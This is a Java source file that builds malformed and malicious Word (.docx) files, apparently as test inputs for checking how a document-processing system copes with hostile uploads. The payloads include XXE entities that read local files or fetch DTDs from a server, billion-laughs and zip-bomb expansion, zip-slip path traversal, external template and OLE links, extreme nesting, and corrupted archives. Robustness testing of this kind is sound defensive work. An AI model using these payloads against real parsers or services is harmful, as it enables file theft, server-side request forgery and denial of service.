package vn.dondoc.knowledge.hostile;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Word files made to harm. */
final class HostileWord {
    private static final String TYPES = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
            + "<Override PartName=\"/word/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml\"/><Override PartName=\"/word/header1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml\"/></Types>";
    private static final String RELS = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";
    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
    private static final String OPEN = "<w:document " + W + "><w:body>", CLOSE = "</w:body></w:document>";
    private static final String PLAN = "<w:p><w:r><w:t>KẾ HOẠCH triển khai nhiệm vụ năm 2026</w:t></w:r></w:p>";
    private static final String LAUGHS = "<!DOCTYPE x [<!ENTITY a0 \"haha\">" + laughs() + "]>";

    private HostileWord() {}

    static List<Hostile> files(String address, String file) {
        List<Hostile> files = new ArrayList<>();
        files.add(docx("XXE to a file in the text", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://" + file + "\">]>" + OPEN + "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>" + CLOSE, Map.of()));
        files.add(docx("XXE to a server in the text", "<!DOCTYPE x SYSTEM \"" + address + "/x.dtd\">" + OPEN + PLAN + CLOSE, Map.of()));
        files.add(docx("XXE by a parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + address + "/p.dtd\"> %p;]>" + OPEN + PLAN + CLOSE, Map.of()));
        files.add(docx("XXE in the styles", OPEN + PLAN + CLOSE, Map.of("word/styles.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "/s\">]><w:styles " + W + ">&e;</w:styles>")));
        files.add(docx("XXE in the relations", OPEN + PLAN + CLOSE, Map.of("_rels/.rels", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "/r\">]>" + RELS.substring(21))));
        files.add(docx("XXE in the content types", OPEN + PLAN + CLOSE, Map.of("[Content_Types].xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "/t\">]>" + TYPES.substring(21))));
        files.add(docx("XXE in a header", OPEN + PLAN + CLOSE, Map.of("word/header1.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "/h\">]><w:hdr " + W + "><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:hdr>")));
        files.add(docx("billion laughs in the text", LAUGHS + OPEN + "<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>" + CLOSE, Map.of()));
        files.add(docx("billion laughs in the styles", OPEN + PLAN + CLOSE, Map.of("word/styles.xml", LAUGHS + "<w:styles " + W + ">&a9;</w:styles>")));
        files.add(docx("billion laughs in a header", OPEN + PLAN + CLOSE, Map.of("word/header1.xml", LAUGHS + "<w:hdr " + W + ">&a9;</w:hdr>")));
        files.add(docx("an entity of 100 KB, 5000 times", "<!DOCTYPE x [<!ENTITY a \"" + "a".repeat(100_000) + "\">]>" + OPEN + "<w:p><w:r><w:t>" + "&a;".repeat(5000) + "</w:t></w:r></w:p>" + CLOSE, Map.of()));
        files.add(docx("schema from a server", "<w:document " + W + " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a " + address + "/a.xsd\"><w:body>" + PLAN + CLOSE, Map.of()));
        for (String type : List.of("image", "attachedTemplate", "aFChunk", "oleObject", "subDocument", "frame", "hyperlink", "header"))
            files.add(docx("a linked " + type + " on a server", OPEN + PLAN + "<w:altChunk r:id=\"rId9\"/>" + CLOSE, Map.of("word/_rels/document.xml.rels",
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + type + "\" Target=\"" + address + "/" + type + "\" TargetMode=\"External\"/></Relationships>")));
        files.add(docx("relations in a circle", OPEN + PLAN + CLOSE, Map.of("word/_rels/document.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/header\" Target=\"document.xml\"/></Relationships>")));
        files.add(made("inflates to 1 GB", "bom.docx", () -> zip(base(null), "word/document.xml", OPEN + PLAN, " ", 1_000_000_000L)));
        files.add(made("inflates to 200 MB of paragraphs", "bom2.docx", () -> zip(base(null), "word/document.xml", OPEN, PLAN, 200_000_000L)));
        files.add(made("a million paragraphs", "dai.docx", () -> zip(base(null), "word/document.xml", OPEN, "<w:p><w:r><w:t>a b</w:t></w:r></w:p>", 36_000_000L)));
        files.add(made("a table of 100 000 cells", "bang.docx", () -> zip(base(OPEN + "<w:tbl>" + ("<w:tr>" + "<w:tc><w:p><w:r><w:t>ô</w:t></w:r></w:p></w:tc>".repeat(10) + "</w:tr>").repeat(10_000) + "</w:tbl>" + CLOSE))));
        files.add(docx("a row of 20 000 cells", OPEN + "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>".repeat(20_000) + "</w:tr></w:tbl>" + CLOSE, Map.of()));
        files.add(docx("a cell over two billion columns", OPEN + "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"2147483647\"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>" + PLAN + CLOSE, Map.of()));
        files.add(docx("a cell over fewer than no columns", OPEN + "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"-5\"/><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>" + PLAN + CLOSE, Map.of()));
        files.add(docx("elements 100 000 deep", OPEN + "<w:p>".repeat(100_000) + "</w:p>".repeat(100_000) + CLOSE, Map.of()));
        files.add(docx("tables 3000 deep", OPEN + "<w:tbl><w:tr><w:tc>".repeat(3000) + "<w:p/>" + "</w:tc></w:tr></w:tbl>".repeat(3000) + CLOSE, Map.of()));
        files.add(docx("100 000 attributes", OPEN + "<w:p" + attributes() + "/>" + PLAN + CLOSE, Map.of()));
        files.add(docx("no XML", "không phải XML", Map.of()));
        files.add(docx("no end of the XML", OPEN + PLAN, Map.of()));
        files.add(docx("an empty text", OPEN + CLOSE, Map.of()));
        files.add(docx("NULs in the XML", OPEN + "<w:p><w:r><w:t>\u0000\u0001</w:t></w:r></w:p>" + CLOSE, Map.of()));
        files.add(made("a zip with nothing", "rong.docx", () -> zip(Map.of())));
        files.add(made("a zip that is no Word file", "khac.docx", () -> zip(Map.of("a.txt", "a".getBytes(StandardCharsets.UTF_8)))));
        files.add(made("entries that climb out", "leo.docx", () -> zip(with(base(OPEN + PLAN + CLOSE), "../../../../tmp/dondoc-hostile-escaped", "x"))));
        files.add(made("50 000 entries", "nhieu.docx", () -> {
            Map<String, byte[]> entries = base(OPEN + PLAN + CLOSE);
            for (int i = 0; i < 50_000; i++) entries.put("word/media/" + i + ".bin", new byte[0]);
            return zip(entries);
        }));
        files.add(made("zips in zips", "long.docx", () -> {
            byte[] inside = new byte[10_000_000];
            for (int i = 0; i < 5; i++) inside = zip(Map.of("a.zip", inside));
            return zip(with(base(OPEN + PLAN + CLOSE), "word/embeddings/a.zip", inside));
        }));
        byte[] good = zip(base(OPEN + PLAN.repeat(50) + CLOSE));
        for (int percent : new int[] {5, 50, 95}) files.add(made("cut at " + percent + " %", "cut" + percent + ".docx", () -> Arrays.copyOf(good, good.length * percent / 100)));
        for (int seed = 1; seed <= 3; seed++) {
            int s = seed;
            files.add(made("bytes changed at random " + s, "hong" + s + ".docx", () -> {
                byte[] bad = good.clone();
                Random random = new Random(s);
                for (int i = 0; i < 60; i++) bad[4 + random.nextInt(bad.length - 4)] = (byte) random.nextInt(256);
                return bad;
            }));
        }
        files.add(made("encrypted with a password", "khoa.docx", () -> encrypted(good)));
        files.add(made("an old .doc named .docx", "cu.docx", () -> ole()));
        files.add(made("an old .doc", "cu.doc", () -> ole()));
        files.add(made("only the first bytes of a zip", "pk.docx", () -> new byte[] {'P', 'K', 3, 4}));
        return files;
    }

    private static String laughs() {
        StringBuilder s = new StringBuilder();
        for (int i = 1; i < 10; i++) s.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
        return s.toString();
    }

    private static String attributes() {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < 100_000; i++) s.append(" a").append(i).append("=\"b\"");
        return s.toString();
    }

    private static Hostile docx(String kind, String document, Map<String, String> more) {
        return made(kind, "van-ban.docx", () -> {
            Map<String, byte[]> entries = base(document);
            more.forEach((name, text) -> entries.put(name, text.getBytes(StandardCharsets.UTF_8)));
            return zip(entries);
        });
    }

    interface Making {
        byte[] make() throws IOException;
    }

    static Hostile made(String kind, String name, Making making) {
        return new Hostile(kind, name, () -> {
            try {
                return making.make();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    private static Map<String, byte[]> base(String document) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", TYPES.getBytes(StandardCharsets.UTF_8));
        entries.put("_rels/.rels", RELS.getBytes(StandardCharsets.UTF_8));
        if (document != null) entries.put("word/document.xml", document.getBytes(StandardCharsets.UTF_8));
        return entries;
    }

    private static Map<String, byte[]> with(Map<String, byte[]> entries, String name, Object more) {
        entries.put(name, more instanceof byte[] bytes ? bytes : more.toString().getBytes(StandardCharsets.UTF_8));
        return entries;
    }

    static byte[] zip(Map<String, byte[]> entries) {
        return zip(entries, null, "", "", 0);
    }

    /** With one entry more that begins with a text and goes on with pieces up to a length. */
    static byte[] zip(Map<String, byte[]> entries, String name, String start, String piece, long length) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (var entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
            }
            if (name != null) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(start.getBytes(StandardCharsets.UTF_8));
                byte[] pieces = piece.repeat(1_000_000 / piece.length()).getBytes(StandardCharsets.UTF_8);
                for (long done = 0; done < length; done += pieces.length) zip.write(pieces);
                if (!piece.isBlank()) zip.write(CLOSE.getBytes(StandardCharsets.UTF_8));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] encrypted(byte[] good) throws IOException {
        try (POIFSFileSystem container = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var encryptor = new EncryptionInfo(EncryptionMode.standard).getEncryptor();
            encryptor.confirmPassword("mat-khau");
            try (var inside = encryptor.getDataStream(container)) {
                inside.write(good);
            } catch (GeneralSecurityException e) {
                throw new IOException(e);
            }
            container.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    private static byte[] ole() throws IOException {
        try (POIFSFileSystem container = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            container.createDocument(new ByteArrayInputStream(new byte[5000]), "WordDocument");
            container.writeFilesystem(out);
            return out.toByteArray();
        }
    }
}
